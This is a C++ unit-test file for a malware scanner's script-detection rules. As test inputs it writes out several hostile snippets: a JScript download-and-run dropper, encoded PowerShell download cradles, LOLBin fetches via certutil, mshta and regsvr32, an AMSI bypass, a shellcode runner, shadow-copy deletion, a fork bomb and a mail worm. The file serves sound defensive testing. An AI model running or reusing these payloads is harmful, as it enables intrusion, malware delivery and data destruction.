// The script rules (analysis/script.hpp) through the engine, on scripts written here: each rule fires on the shape it
// names, with the line it matched, and the benign near-misses beside it (package-manager one-line installs, batch
// files that use mshta for a dialog, commented-out commands, browser code with the IE XMLHTTP fallback) stay clean.
// Scripts inside a zip, an e-mail and a OneNote section get the verdict they get on their own.
#include <gtest/gtest.h>

#include <optional>
#include <string>

#include "analysis/script.hpp"
#include "engine/scanner.hpp"
#include "support/archive_builder.hpp"
#include "support/container_engine.hpp"
#include "support/one_builder.hpp"

namespace mamori {
namespace {

using engine::Verdict;
namespace sc = analysis::script;

engine::ScanResult scan(const std::string& text, const std::string& name) {
  engine::Scanner s(std::optional<model::Model>{}, engine::Options{});
  return s.scan_bytes(ByteView(reinterpret_cast<const std::uint8_t*>(text.data()), text.size()), name);
}

bool has_rule(const engine::ScanResult& r, const std::string& rule) {
  for (const auto& x : r.reasons)
    if (x.feature == "script." + rule) return true;
  return false;
}

std::string context(const engine::ScanResult& r, const std::string& key) {
  for (const auto& [k, v] : r.context)
    if (k == key) return v;
  return {};
}

bool has_ioc(const engine::ScanResult& r, const std::string& type, const std::string& value) {
  for (const auto& i : r.iocs)
    if (i.type == type && i.value == value) return true;
  return false;
}

// UTF-16LE with a BOM, as PowerShell ISE and Notepad save.
std::string utf16(const std::string& s) {
  std::string r = "\xFF\xFE";
  for (char c : s) r += c, r += '\0';
  return r;
}

// base64 of UTF-16LE text, as -EncodedCommand takes it.
std::string encoded_command(const std::string& s) {
  static const char* k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string in;
  for (char c : s) in += c, in += '\0';
  std::string out;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    const unsigned n = (static_cast<unsigned char>(in[i]) << 16) |
                       (i + 1 < in.size() ? static_cast<unsigned char>(in[i + 1]) << 8 : 0) |
                       (i + 2 < in.size() ? static_cast<unsigned char>(in[i + 2]) : 0);
    out += k[(n >> 18) & 63];
    out += k[(n >> 12) & 63];
    out += i + 1 < in.size() ? k[(n >> 6) & 63] : '=';
    out += i + 2 < in.size() ? k[n & 63] : '=';
  }
  return out;
}

const std::string kJsDropper =
    "var sh = new ActiveXObject(\"WScript.Shell\");\n"
    "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\n"
    "x.open(\"GET\", \"http://198.51.100.7/load/a.exe\", false); x.send();\n"
    "var st = new ActiveXObject(\"ADODB.Stream\"); st.Open(); st.Type = 1; st.Write(x.responseBody);\n"
    "var p = sh.ExpandEnvironmentStrings(\"%TEMP%\") + \"\\\\a.exe\";\n"
    "st.SaveToFile(p, 2); sh.Run(p, 0);\n";

TEST(ScriptRules, JscriptDropperIsMaliciousWithItsLineAndUrl) {
  const auto r = scan(kJsDropper, "invoice.js");
  EXPECT_EQ(r.type.kind, engine::FileKind::script);
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.DownloadExecute");
  EXPECT_TRUE(has_rule(r, "download_execute"));
  EXPECT_TRUE(has_rule(r, "dropper_shape"));
  EXPECT_TRUE(has_rule(r, "url_executable"));
  EXPECT_TRUE(has_rule(r, "url_ip_host"));
  EXPECT_NE(context(r, "script.download_execute").find("line 2: var x = new ActiveXObject(\"MSXML2.XMLHTTP\");"), std::string::npos);
  EXPECT_TRUE(has_ioc(r, "url", "http://198.51.100.7/load/a.exe"));
  EXPECT_EQ(context(r, "script.language"), "js");
}

TEST(ScriptRules, ConcatenatedProgIdsAreJoinedBeforeMatching) {
  std::string js = kJsDropper;
  js.replace(js.find("\"WScript.Shell\""), 15, "\"WScr\" + \"ipt.Sh\" +\n  \"ell\"");
  js.replace(js.find("\"MSXML2.XMLHTTP\""), 16, "'MSXML2.' + 'XMLHTTP'");
  const auto r = scan(js, "a.js");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_TRUE(has_rule(r, "download_execute"));
}

TEST(ScriptRules, DeploymentScriptThatReportsIsOnlySuspicious) {
  // Downloads, saves and runs an installer like a dropper, but it is long and tells the operator what it does.
  std::string vbs =
      "Set objWSH = CreateObject(\"WScript.Shell\")\r\n"
      "Set objHTTP = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\r\n"
      "objHTTP.Open \"GET\", \"https://deploy.example.com/agent.msi\", False\r\nobjHTTP.Send\r\n"
      "Set st = CreateObject(\"ADODB.Stream\")\r\nst.Open\r\nst.Type = 1\r\nst.Write objHTTP.ResponseBody\r\n"
      "st.SaveToFile \"C:\\Deploy\\agent.msi\", 2\r\n"
      "WScript.Echo \"installing agent\"\r\nobjWSH.Run \"msiexec /i C:\\Deploy\\agent.msi /qn\", 0, True\r\n";
  for (int i = 0; i < 200; ++i) vbs += "WScript.Echo \"step " + std::to_string(i) + " of the deployment checklist\"\r\n";
  const auto r = scan(vbs, "deploy.vbs");
  EXPECT_TRUE(has_rule(r, "download_execute"));
  EXPECT_FALSE(has_rule(r, "dropper_shape"));
  EXPECT_NE(r.verdict, Verdict::malicious);
}

TEST(ScriptRules, VbscriptCommandHiddenInChrArithmeticIsFoundByTheEvaluator) {
  const std::string vbs =
      "Set o = CreateObject(\"WScript.Shell\")\r\n"
      "c = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\n"
      "o.Run c & \" -c whoami\", 0\r\n";
  const auto r = scan(vbs, "x.vbs");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.HiddenCommand");
  EXPECT_NE(context(r, "script.hidden_command").find("\"powershell\" appears only after decoding"), std::string::npos);
}

TEST(ScriptRules, EncodedPowerShellInABatchFileIsDecoded) {
  const std::string payload = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/s.ps1')";
  const std::string bat = "@echo off\r\npowershell -nop -w hidden -enc " + encoded_command(payload) + "\r\n";
  const auto r = scan(bat, "run.bat");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.EncodedPowershell");
  EXPECT_TRUE(has_rule(r, "encoded_powershell_payload"));
  EXPECT_TRUE(has_rule(r, "hidden_window"));
  EXPECT_EQ(context(r, "script.decoded"), payload);
  EXPECT_TRUE(has_ioc(r, "url", "http://203.0.113.9/s.ps1"));
}

TEST(ScriptRules, PowerShellWithAVariableAfterEncIsNotDecoded) {
  const std::string ps = "$b = [Convert]::ToBase64String($bytes)\npowershell -NoProfile -EncodedCommand $b\n"
                         "Get-Process powershell -ErrorAction SilentlyContinue\n";
  const auto r = scan(ps, "helper.ps1");
  EXPECT_FALSE(has_rule(r, "encoded_powershell"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, CradleWithHiddenWindowAndIpHostIsMalicious) {
  const auto r = scan("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"\r\n",
                      "a.cmd");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.PowershellCradle");
  EXPECT_TRUE(has_rule(r, "url_ip_host"));
}

TEST(ScriptRules, PackageManagerOneLineInstallStaysClean) {
  const auto r = scan("@echo off\r\npowershell -NoProfile -ExecutionPolicy unrestricted -Command \"iex ((new-object "
                      "net.webclient).DownloadString('https://pkgs.example.org/install.ps1'))\"\r\n",
                      "install.bat");
  EXPECT_TRUE(has_rule(r, "powershell_cradle"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, LolbinDownloadsAreMalicious) {
  auto r = scan("@echo off\r\ncertutil -urlcache -split -f http://198.51.100.7/p.txt %TEMP%\\p.exe\r\n", "a.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.CertutilDownload");
  r = scan("@echo off\r\nmshta http://198.51.100.7/x.hta\r\n", "b.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.MshtaRemote");
  r = scan("@echo off\r\nregsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll\r\n", "c.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.Regsvr32Scriptlet");
  r = scan("@echo off\r\nrundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)\r\n", "d.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.Rundll32Script");
  r = scan("@echo off\r\nmshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\":close\")\r\n", "e.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.MshtaInlineRun");
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(ScriptRules, BatchFileUsingMshtaForADialogOrScrobjLocallyStaysClean) {
  auto r = scan("@echo off\r\nfor /f %%a in ('mshta \"javascript:code(close(new ActiveXObject('Scripting.FileSystemObject')"
                ".GetStandardStream(1).Write(clipboardData.getData('Text'))));\"') do set clip=%%a\r\n"
                "regsvr32 /s /i:\"%~dp0widget.wsc\" scrobj.dll\r\ncertutil -decodehex data.hex data.bin\r\n",
                "tools.bat");
  EXPECT_EQ(r.verdict, Verdict::clean);
  EXPECT_TRUE(r.reasons.empty());
}

TEST(ScriptRules, CertutilDecodeAndBitsadminAloneAreWeak) {
  auto r = scan("@echo off\r\ncertutil -decode payload.b64 payload.exe\r\n", "a.bat");
  EXPECT_TRUE(has_rule(r, "certutil_decode"));
  EXPECT_EQ(r.verdict, Verdict::clean);
  r = scan("@echo off\r\nbitsadmin /transfer job http://198.51.100.7/a.exe %TEMP%\\a.exe\r\n", "b.bat");
  EXPECT_TRUE(has_rule(r, "bitsadmin_download"));
  EXPECT_TRUE(has_rule(r, "url_ip_host"));
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(ScriptRules, CurlDownloadThenStartFromTemp) {
  const auto r = scan("@echo off\r\ncurl -s -o %TEMP%\\u.exe https://cdn.example.net/u.exe\r\nstart \"\" %TEMP%\\u.exe\r\n", "u.cmd");
  EXPECT_TRUE(has_rule(r, "batch_download"));
  EXPECT_TRUE(has_rule(r, "run_downloaded"));
  EXPECT_EQ(r.verdict, Verdict::suspicious);
  const auto b = scan("@echo off\r\ncurl -L -o tools\\cmake.zip https://cmake.example.org/cmake.zip\r\n", "fetch.cmd");
  EXPECT_TRUE(has_rule(b, "batch_download"));
  EXPECT_EQ(b.verdict, Verdict::clean);
}

TEST(ScriptRules, ObfuscatedEvalOfCharCodesInWshScript) {
  std::string js = "var k = [";
  for (int i = 0; i < 300; ++i) js += std::to_string(40 + (i * 7) % 80) + (i + 1 < 300 ? "," : "");
  js += "];\nvar s = '';\nfor (var i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 3);\n"
        "var w = WScript.CreateObject('Scripting.FileSystemObject');\neval(s);\n";
  const auto r = scan(js, "o.js");
  EXPECT_TRUE(has_rule(r, "obfuscated_eval"));
  EXPECT_TRUE(has_rule(r, "obfuscated_wsh"));
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.ObfuscatedEval");
}

TEST(ScriptRules, EmbeddedExecutableWrittenOut) {
  const std::string js = "var st = new ActiveXObject('ADODB.Stream'); st.Open(); st.Type = 1;\n"
                         "var d = new ActiveXObject('MSXml2.DOMDocument').createElement('b'); d.dataType = 'bin.base64';\n"
                         "d.text = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAA=='; st.Write(d.nodeTypedValue);\n"
                         "st.SaveToFile('C:\\\\Users\\\\Public\\\\x.exe', 2);\n";
  auto r = scan(js, "e.js");
  EXPECT_EQ(r.signature, "Mamori.Script.EmbeddedExecutable");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  // The same bytes as data that nothing writes out (a test vector, a resource) weigh little.
  r = scan("$header = 'TVqQAAMAAAAEAAAA'\nif ($b64.StartsWith($header)) { Write-Output 'PE' }\n", "t.ps1");
  EXPECT_TRUE(has_rule(r, "embedded_executable_data"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, MembersNamedByDecodingCalls) {
  std::string js = "var t = ['x', 'y'];\nfunction d(k) { return t[k.length % 2]; }\nvar o = new ActiveXObject(d('q%a!z'));\n";
  for (int i = 0; i < 20; ++i) js += "o[d('k" + std::to_string(i) + "$!')](d('v" + std::to_string(i) + "@#'));\n";
  auto r = scan(js, "w.js");
  EXPECT_TRUE(has_rule(r, "computed_names"));
  EXPECT_TRUE(has_rule(r, "obfuscated_wsh"));
  EXPECT_EQ(r.verdict, Verdict::malicious);
  EXPECT_EQ(r.signature, "Mamori.Script.ComputedNames");
  // A few computed names are ordinary code.
  std::string lib = "var o = {};\n";
  for (int i = 0; i < 6; ++i) lib += "o[key('a" + std::to_string(i) + "')] = " + std::to_string(i) + ";\n";
  r = scan(lib, "lib.js");
  EXPECT_FALSE(has_rule(r, "computed_names"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, BrowserLibraryWithIeXmlHttpFallbackStaysClean) {
  const std::string js =
      "(function(){ function xhr(){ try { return new XMLHttpRequest(); } catch(e) {}\n"
      "  try { return new ActiveXObject('Microsoft.XMLHTTP'); } catch(e) {} }\n"
      "  var r = xhr(); r.open('GET', '/api/items'); r.onload = function(){ eval('(' + r.responseText + ')'); };\n"
      "  r.send(); })();\n";
  const auto r = scan(js, "lib.js");
  EXPECT_EQ(r.verdict, Verdict::clean);
  EXPECT_TRUE(r.reasons.empty());
}

TEST(ScriptRules, InMemoryPowerShellLoaders) {
  auto r = scan("$b=[Convert]::FromBase64String($d)\n[System.Reflection.Assembly]::Load([Convert]::FromBase64String($d))\n", "a.ps1");
  EXPECT_EQ(r.signature, "Mamori.Script.ReflectiveLoad");
  r = scan("$p = $k32::VirtualAlloc(0, $sc.Length, 0x3000, 0x40)\n$t = $k32::CreateThread(0, 0, $p, 0, 0, 0)\n", "b.ps1");
  EXPECT_EQ(r.signature, "Mamori.Script.ShellcodeRunner");
  r = scan("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
           ".SetValue($null,$true)\n",
           "c.ps1");
  EXPECT_EQ(r.signature, "Mamori.Script.AmsiBypass");
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(ScriptRules, DefenderExclusionAloneIsNotEnough) {
  const auto r = scan("Add-MpPreference -ExclusionPath 'C:\\Build'\nWrite-Host 'done'\n", "ci.ps1");
  EXPECT_TRUE(has_rule(r, "defender_tamper"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, BatchVirusesAndDestruction) {
  auto r = scan("@echo off\r\nfor %%f in (*.bat) do type %0 >> %%f\r\n", "v.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.BatchInfector");
  r = scan("@echo off\r\n:a\r\n%0|%0\r\n", "f.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.ForkBomb");
  r = scan("@echo off\r\nvssadmin delete shadows /all /quiet\r\n", "r.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.Destructive");
  EXPECT_EQ(r.verdict, Verdict::malicious);
}

TEST(ScriptRules, CommentedOutCommandsDoNotCount) {
  auto r = scan("@echo off\r\nrem vssadmin delete shadows /all /quiet\r\n:: format c: /q\r\necho ok\r\n", "c.bat");
  EXPECT_TRUE(r.reasons.empty());
  r = scan("# vssadmin Delete Shadows /For=C: /Quiet\n<# certutil -urlcache -f http://198.51.100.7/a a.exe #>\nGet-Date\n", "c.ps1");
  EXPECT_TRUE(r.reasons.empty());
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, VbscriptWormShapes) {
  auto r = scan("Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
                "fso.CopyFile WScript.ScriptFullName, fso.GetSpecialFolder(1) & \"\\svc.vbs\"\r\n"
                "Set ol = CreateObject(\"Outlook.Application\")\r\nSet al = ol.GetNamespace(\"MAPI\").AddressLists\r\n"
                "Set m = ol.CreateItem(0)\r\nm.Attachments.Add WScript.ScriptFullName\r\nm.Send\r\n",
                "love.vbs");
  EXPECT_EQ(r.signature, "Mamori.Script.MassMailer");
  EXPECT_TRUE(has_rule(r, "self_copy"));
  // Sending a report with an attachment, and copying some other file, is what admin scripts do.
  r = scan("Set ol = CreateObject(\"Outlook.Application\")\r\nSet m = ol.CreateItem(0)\r\n"
           "m.Attachments.Add \"C:\\Reports\\daily.csv\"\r\nm.Send\r\n"
           "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\nfso.CopyFile \"a.txt\", \"b.txt\"\r\n"
           "d = fso.GetParentFolderName(WScript.ScriptFullName)\r\n",
           "report.vbs");
  EXPECT_TRUE(has_rule(r, "mail_attachment"));
  EXPECT_FALSE(has_rule(r, "self_copy"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, MacroSourceWithAutoOpenShell) {
  auto r = scan("Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n", "m.bas");
  EXPECT_EQ(r.signature, "Mamori.Script.MacroLoader");
  r = scan("Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  MsgBox \"Welcome\"\r\nEnd Sub\r\n", "m.bas");
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, ScriptEncoderMarkerAndUtf16Text) {
  auto r = scan("#@~^DgAAAA==\\ko$K6,JCV^#~@\r\n", "a.vbe");
  EXPECT_EQ(r.signature, "Mamori.Script.EncodedScript");
  r = scan(utf16("@echo off\r\nvssadmin delete shadows /all /quiet\r\n"), "u.bat");
  EXPECT_EQ(r.signature, "Mamori.Script.Destructive");
  bool noted = false;
  for (const auto& a : r.anomalies) noted |= a == "script: utf-16le text";
  EXPECT_TRUE(noted);
}

TEST(ScriptRules, PersistenceAndHiddenWindowOnlyAddToOtherFindings) {
  const auto r = scan("Set s = CreateObject(\"WScript.Shell\")\r\n"
                      "s.RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd\", \"wscript.exe x.vbs\"\r\n",
                      "p.vbs");
  EXPECT_FALSE(has_rule(r, "persistence"));
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(ScriptRules, TextNamedLikeAScriptIsScoredAndPlainTextIsNot) {
  // No telltale start: typed as text; the extension decides.
  const std::string t = "certutil -urlcache -split -f http://198.51.100.7/p.txt p.exe\r\n";
  EXPECT_EQ(scan(t, "go.cmd").signature, "Mamori.Script.CertutilDownload");
  EXPECT_EQ(scan(t, "notes.txt").verdict, Verdict::unsupported);
  EXPECT_TRUE(sc::has_script_extension("mail.eml!a.zip!Invoice.JSE"));
  EXPECT_FALSE(sc::has_script_extension("readme.md"));
  EXPECT_EQ(sc::language_of("script-js", "x.vbs"), sc::Lang::vbs);
  EXPECT_EQ(sc::language_of("script-ps1", ""), sc::Lang::ps1);
}

TEST(ScriptRules, ScriptsInContainersGetTheSameVerdict) {
  const auto s = test::container_scanner();
  const test::Blob js(kJsDropper.begin(), kJsDropper.end());
  const test::Blob z = test::make_zip({{"invoice.js", js, true}, {"readme.txt", test::blob("hello"), true}});
  auto r = s.scan_bytes(ByteView(z.data(), z.size()), "a.zip");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  const auto* m = test::find_member(r, "a.zip!invoice.js");
  ASSERT_NE(m, nullptr);
  EXPECT_EQ(m->signature, "Mamori.Script.DownloadExecute");
  EXPECT_EQ(r.signature, m->signature);

  const std::string eml = test::make_eml("Invoice", "See attached.", {{"invoice.zip", "application/zip", z}});
  r = s.scan_bytes(ByteView(reinterpret_cast<const std::uint8_t*>(eml.data()), eml.size()), "m.eml");
  EXPECT_EQ(r.verdict, Verdict::malicious);
  m = test::find_member(r, "invoice.zip!invoice.js");
  ASSERT_NE(m, nullptr);
  EXPECT_EQ(m->signature, "Mamori.Script.DownloadExecute");

  test::OneSpec spec;
  spec.objects = {{js}};
  const auto one = test::build_one(spec);
  r = s.scan_bytes(ByteView(one.data(), one.size()), "s.one");
  ASSERT_EQ(r.members.size(), 1u);
  EXPECT_EQ(r.members[0].signature, "Mamori.Script.DownloadExecute");
}

}  // namespace
}  // namespace mamori
